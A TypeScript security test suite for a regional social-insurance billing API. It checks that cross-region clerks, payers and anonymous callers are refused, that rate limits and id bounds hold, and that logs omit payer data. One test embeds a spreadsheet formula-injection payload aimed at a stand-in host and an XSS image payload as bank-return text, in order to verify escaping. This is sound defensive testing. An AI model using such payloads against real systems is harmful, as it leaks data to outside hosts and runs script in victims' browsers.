// The eleventh wave's attacker's walk (sec36): the public lookups' one budget per address, ids past their
// column at the edge, and what the thirty-fifth pass added — a bill's history, the bank's return file, the
// reversal's kind and the employer page's latest bills — tried as an anonymous caller, a citizen, an
// employer, another city's clerk and a user of the region without the role. Each test goes through the
// real server (app.inject) on a real database; the holes were seen failing first (docs/security.md, wave 11).
import { strict as assert } from 'node:assert';
import { Writable } from 'node:stream';
import { describe, test } from 'node:test';
import { makeLogger } from '../bootstrap.ts';
import { makeIdNumber } from '../core/ids.ts';
import { buildServer } from '../server.ts';
import { BANK_RECEIPT_HEADER, makeRegionBill, postBankReceipts } from '../testing/bill-fixtures.ts';
import { TEST_REGION } from '../testing/test-app.ts';
import { attackerWalk } from './attackers.ts';

const FAR = '340100';
const RETURN_HEADER = 'bank_ref,return_date,amount_fen,bank_code,bank_reason';
type Returned = {
  duplicateUpload: boolean;
  prepared: number;
  noReceipt: number;
  pending: number;
  results: Array<{ line: number; status: string; reason?: string }>;
};

describe('wave 11', () => {
  const w = attackerWalk(['citizen-b']);
  const { as, call, error } = w;
  const postReturns = (who: string, csv: string, query = '') =>
    w.t.app.inject({
      method: 'POST',
      url: `/api/v1/payments/bank-returns.csv${query}`,
      headers: { ...as[who]!.headers, 'content-type': 'text/csv' },
      payload: csv,
    });
  /** A bill of 1,000.00 paid by the bank's receipt `ref`: the bill's and the payment's numbers. */
  const paidBill = async (ref: string) => {
    const bill = await makeRegionBill(w.t);
    const r = await postBankReceipts(
      w.t,
      as['clerk']!,
      `${BANK_RECEIPT_HEADER}\n${ref},2021-10-12,${bill},100000`,
    );
    assert.equal(r.statusCode, 200, r.body);
    return { bill, payment: r.json<{ results: Array<{ paymentId: number }> }>().results[0]!.paymentId };
  };

  test('the region lookups and the payment gateway share one budget per address: 60 mixed calls, then 429 on any of them; another address is unaffected', async () => {
    const at = (ip: string, i: number) =>
      i % 3 === 2
        ? w.t.app.inject({
            method: 'POST',
            url: '/api/v1/payment-gateway/notify',
            remoteAddress: ip,
            payload: {
              orderNo: 'SB' + '0'.repeat(24),
              gatewayRef: 'W11-GW',
              amountFen: 1,
              status: 'success',
              signature: 'x',
            },
          })
        : w.t.app.inject({
            method: 'GET',
            url: i % 3 === 0 ? '/api/v1/regions' : `/api/v1/regions/${TEST_REGION}`,
            remoteAddress: ip,
          });
    const codes: number[] = [];
    for (let i = 0; i < 60; i += 1) codes.push((await at('127.0.11.1', i)).statusCode);
    assert.ok(!codes.includes(429), codes.join(','));
    // old code: each route counted its own 60, so an address had 300 a minute over the five
    for (let i = 0; i < 3; i += 1) {
      const r = await at('127.0.11.1', i);
      assert.equal(r.statusCode, 429, `call ${i} past the budget: ${r.body.slice(0, 200)}`);
    }
    for (let i = 0; i < 3; i += 1) assert.notEqual((await at('127.0.11.2', i)).statusCode, 429);
  });

  test('an id past its column is refused at the edge, naming the parameter: before, it reached the database and came back as its refusal', async () => {
    const past = '9007199254740993';
    for (const [url, field] of [
      [`/api/v1/bills/${past}`, 'id'],
      [`/api/v1/bills/${past}/history`, 'id'],
      [`/api/v1/bills?employerId=${past}`, 'employerId'],
      [`/api/v1/bills?personId=1e300`, 'personId'],
      [`/api/v1/contributions/arrears?employerId=${past}`, 'employerId'],
      [`/api/v1/payments?billId=${past}`, 'billId'],
      [`/api/v1/employers/${past}`, 'id'],
      [`/api/v1/persons/${past}`, 'id'],
    ] as const) {
      const r = await call('clerk', 'GET', url);
      assert.equal(r.statusCode, 400, `${url}: ${r.body}`);
      assert.equal(error(r)?.field, field, `${url}: ${r.body}`);
      assert.ok(!r.body.includes(past) && !r.body.includes('1e300'), r.body);
    }
    const r = await call('clerk', 'POST', `/api/v1/payments/${past}/reverse`, {
      reasonKind: 'bank_return',
      reason: '退票',
    });
    assert.equal(r.statusCode, 400, r.body);
    assert.equal(error(r)?.field, 'id', r.body);
  });

  test('a bill’s history: staff of the bill’s region only; another city’s clerk gets the answer of an unknown bill, payers and a user without the role are refused', async () => {
    const { bill } = await paidBill('W11-HIST-1');
    const mine = await call('clerk', 'GET', `/api/v1/bills/${bill}/history`);
    assert.equal(mine.statusCode, 200, mine.body);
    const far = await call('clerk-hefei', 'GET', `/api/v1/bills/${bill}/history`);
    const unknown = await call('clerk-hefei', 'GET', `/api/v1/bills/999999999/history`);
    assert.equal(far.statusCode, 404, far.body);
    assert.deepEqual(error(far), error(unknown));
    assert.ok(!far.body.includes('W11-HIST'), far.body);
    for (const who of [null, 'citizen', 'employer', 'policy']) {
      const r = await call(who, 'GET', `/api/v1/bills/${bill}/history`);
      assert.equal(r.statusCode, who === null ? 401 : 403, `${who}: ${r.body}`);
      assert.ok(!r.body.includes('W11-HIST'), r.body);
    }
  });

  test('the bank’s return file: another region’s receipt is no receipt, another city’s clerk and payers cannot import for this region, bad amounts and a long line are refused naming the column', async () => {
    const { payment } = await paidBill('W11-RET-1');
    // a receipt of Hefei's, named in this city's file
    const farBill = await makeRegionBill(w.t, { region: FAR });
    const farUp = await w.t.app.inject({
      method: 'POST',
      url: `/api/v1/payments/bank-receipts.csv?region=${FAR}`,
      headers: { ...as['clerk-hefei']!.headers, 'content-type': 'text/csv' },
      payload: `${BANK_RECEIPT_HEADER}\nW11-FAR-1,2021-10-12,${farBill},100000`,
    });
    assert.equal(farUp.statusCode, 200, farUp.body);
    const file = [RETURN_HEADER, 'W11-FAR-1,2021-10-18,100000,R01,account closed'].join('\n');
    const r = await postReturns('clerk', file);
    assert.equal(r.statusCode, 200, r.body);
    const got = r.json<Returned>();
    assert.equal(got.noReceipt, 1, r.body);
    assert.equal(got.prepared, 0, r.body);
    // another city's clerk naming this region, and the payers: refused before the file is read
    const mine = [RETURN_HEADER, 'W11-RET-1,2021-10-18,100000,R01,account closed'].join('\n');
    const refused = await postReturns('clerk-hefei', mine, `?region=${TEST_REGION}`);
    assert.equal(refused.statusCode, 403, refused.body);
    for (const who of ['citizen', 'employer', 'reviewer', 'supervisor', 'policy'])
      assert.equal((await postReturns(who, mine)).statusCode, 403, who);
    const opened = await w.t.ctx.db
      .selectFrom('approval')
      .select('id')
      .where('kind', '=', 'payment.reverse')
      .where('dedupe_key', '=', String(payment))
      .execute();
    assert.deepEqual(opened, [], 'nothing prepared by a refused import');
    // the amount: three decimals of a yuan, negative, zero; a line far past the reason's 100 characters
    for (const [header, amount, column] of [
      ['amount_yuan', '1000.001', 'amount_yuan'],
      ['amount_yuan', '-1000.00', 'amount_yuan'],
      ['amount_fen', '-100000', 'amount_fen'],
      ['amount_fen', '0', 'amount_fen'],
      ['amount_yuan', '0.00', 'amount_yuan'],
    ] as const) {
      const bad = await postReturns(
        'clerk',
        [RETURN_HEADER.replace('amount_fen', header), `W11-RET-1,2021-10-18,${amount},R01,x`].join('\n'),
      );
      assert.equal(bad.statusCode, 400, `${amount}: ${bad.body}`);
      assert.ok(bad.body.includes(column) && !bad.body.includes(amount), `${amount}: ${bad.body}`);
    }
    const long = 'W11LONG'.repeat(150_000);
    const huge = await postReturns(
      'clerk',
      [RETURN_HEADER, `W11-RET-1,2021-10-18,100000,R01,${long}`].join('\n'),
    );
    assert.equal(huge.statusCode, 400, huge.body.slice(0, 300));
    assert.ok(huge.body.includes('bank_reason') && !huge.body.includes('W11LONG'), huge.body.slice(0, 300));
  });

  test('the bank’s words reach the reviewer and the audit as text: a formula does not start a cell of the audit export, HTML is JSON text, and the same file with one byte changed prepares nothing twice', async () => {
    const { payment } = await paidBill('W11-RET-2');
    const FORMULA = '=HYPERLINK("http://x.example/?"&A1)';
    const HTML = '<img src=x onerror=alert(1)>';
    const first = await postReturns(
      'clerk',
      [RETURN_HEADER, `W11-RET-2,2021-10-18,100000,R01,"${FORMULA.replace(/"/g, '""')} ${HTML}"`].join('\n'),
    );
    assert.equal(first.statusCode, 200, first.body);
    assert.equal(first.json<Returned>().prepared, 1, first.body);
    assert.match(first.headers['content-type'] as string, /^application\/json/);
    // one byte more (a trailing newline): a new file by its hash, whose line already waits
    const again = await postReturns(
      'clerk',
      [RETURN_HEADER, `W11-RET-2,2021-10-18,100000,R01,"${FORMULA.replace(/"/g, '""')} ${HTML}"`, ''].join(
        '\n',
      ),
    );
    assert.equal(again.statusCode, 200, again.body);
    const a = again.json<Returned>();
    assert.deepEqual([a.duplicateUpload, a.prepared, a.pending], [false, 0, 1], again.body);
    const waiting = await w.t.ctx.db
      .selectFrom('approval')
      .select('id')
      .where('kind', '=', 'payment.reverse')
      .where('dedupe_key', '=', String(payment))
      .execute();
    assert.equal(waiting.length, 1);
    // the reviewer reads the words as JSON text; the supervisor's export makes no cell a formula
    const list = await call('reviewer', 'GET', '/api/v1/approvals');
    assert.equal(list.statusCode, 200, list.body);
    assert.match(list.headers['content-type'] as string, /^application\/json/);
    const csv = await call('supervisor', 'GET', '/api/v1/audit.csv');
    assert.equal(csv.statusCode, 200, csv.body.slice(0, 300));
    assert.ok(csv.body.includes('HYPERLINK'), 'the bank’s words are in the export');
    for (const line of csv.body.split('\n'))
      for (const cell of line.split(','))
        assert.ok(!/^"?[=+@]/.test(cell) || /^"?'/.test(cell), `a cell that a spreadsheet runs: ${cell}`);
  });

  test('the reversal’s kind is closed and checked: an unknown kind is refused naming the field, a refund of a receipt that is not held is refused; payers and another city’s clerk reverse nothing', async () => {
    const { payment } = await paidBill('W11-KIND-1');
    for (const reasonKind of ['other', '', 'BANK_RETURN', 'bank_return ', '<b>x</b>']) {
      const r = await call('clerk', 'POST', `/api/v1/payments/${payment}/reverse`, {
        reasonKind,
        reason: '退票',
      });
      assert.equal(r.statusCode, 400, `${reasonKind}: ${r.body}`);
      assert.equal(error(r)?.field, 'reasonKind', r.body);
    }
    const refund = await call('clerk', 'POST', `/api/v1/payments/${payment}/reverse`, {
      reasonKind: 'refund',
      reason: '退给付款人',
    });
    assert.ok(refund.statusCode === 400 || refund.statusCode === 409, refund.body);
    const far = await call('clerk-hefei', 'POST', `/api/v1/payments/${payment}/reverse`, {
      reasonKind: 'bank_return',
      reason: '退票',
    });
    assert.equal(far.statusCode, 404, far.body);
    for (const who of [null, 'citizen', 'employer', 'reviewer', 'supervisor', 'policy']) {
      const r = await call(who, 'POST', `/api/v1/payments/${payment}/reverse`, {
        reasonKind: 'bank_return',
        reason: '退票',
      });
      assert.equal(r.statusCode, who === null ? 401 : 403, `${who}: ${r.body}`);
    }
    const opened = await w.t.ctx.db
      .selectFrom('approval')
      .select('id')
      .where('kind', '=', 'payment.reverse')
      .where('dedupe_key', '=', String(payment))
      .execute();
    assert.deepEqual(opened, []);
  });

  test('the employer page’s latest bills and the arrears by employer: another city’s clerk, another employer and a citizen get the answer of an unknown employer, naming the field only', async () => {
    await makeRegionBill(w.t);
    const mine = await call('clerk', 'GET', `/api/v1/bills?employerId=${w.t.employerId}&pageSize=12`);
    assert.ok(mine.json<{ items: unknown[] }>().items.length > 0, mine.body);
    const other = await makeRegionBill(w.t, { region: FAR });
    const { employer_id: farEmployer } = await w.t.ctx.db
      .selectFrom('contribution_bill')
      .select('employer_id')
      .where('id', '=', other)
      .executeTakeFirstOrThrow();
    const unknownId = 999_999_999;
    for (const [who, id] of [
      ['clerk-hefei', w.t.employerId],
      ['employer', Number(farEmployer)],
      ['citizen', w.t.employerId],
    ] as const)
      for (const route of ['/api/v1/bills?pageSize=12&', '/api/v1/contributions/arrears?']) {
        const r = await call(who, 'GET', `${route}employerId=${id}`);
        const unknown = await call(who, 'GET', `${route}employerId=${unknownId}`);
        // old code: 403 out of scope for a real employer, 404 for an unknown number
        assert.equal(r.statusCode, 404, `${who} ${route}: ${r.body}`);
        assert.deepEqual(error(r), error(unknown), `${who} ${route}`);
        assert.equal(error(r)?.field, 'employerId');
        assert.ok(!r.body.includes(String(id)), r.body);
      }
  });

  test('the log of these attacks holds no name, ID number or bank words of a payer', async () => {
    const chunks: string[] = [];
    const sink = new Writable({
      write(chunk: Buffer | string, _enc, done) {
        chunks.push(String(chunk));
        done();
      },
    });
    const NAME = '欧阳十一';
    const ID = makeIdNumber('341802', '1977-07-07', 33);
    const logged = await buildServer({ ...w.t.ctx, log: makeLogger('debug', sink) });
    try {
      await logged.ready();
      const { bill, payment } = await paidBill('W11-LOG-1');
      const post = (who: string, url: string, payload: string | Record<string, unknown>, type?: string) =>
        logged.inject({
          method: 'POST',
          url,
          headers: { ...as[who]!.headers, ...(type === undefined ? {} : { 'content-type': type }) },
          payload,
        });
      await post(
        'clerk',
        '/api/v1/payments/bank-returns.csv',
        [RETURN_HEADER, `W11-LOG-1,2021-10-18,100000,R01,${NAME} ${ID}`].join('\n'),
        'text/csv',
      );
      await post(
        'clerk',
        '/api/v1/payments/bank-returns.csv',
        [RETURN_HEADER, `${ID},2021-10-18,1.5,R01,${NAME}`].join('\n'),
        'text/csv',
      );
      await post('clerk-hefei', `/api/v1/payments/${payment}/reverse`, {
        reasonKind: 'refund',
        reason: `${NAME} ${ID}`,
      });
      await post('clerk', `/api/v1/payments/${payment}/reverse`, {
        reasonKind: `${NAME}`,
        reason: `${NAME} ${ID}`,
      });
      await logged.inject({
        method: 'GET',
        url: `/api/v1/bills/${bill}/history`,
        headers: as['clerk-hefei']!.headers,
      });
    } finally {
      await logged.close();
    }
    const out = chunks.join('');
    assert.ok(out.length > 0, 'the server logged the requests');
    for (const v of [NAME, ID]) assert.ok(!out.includes(v), `${v} in ${out}`);
  });
});
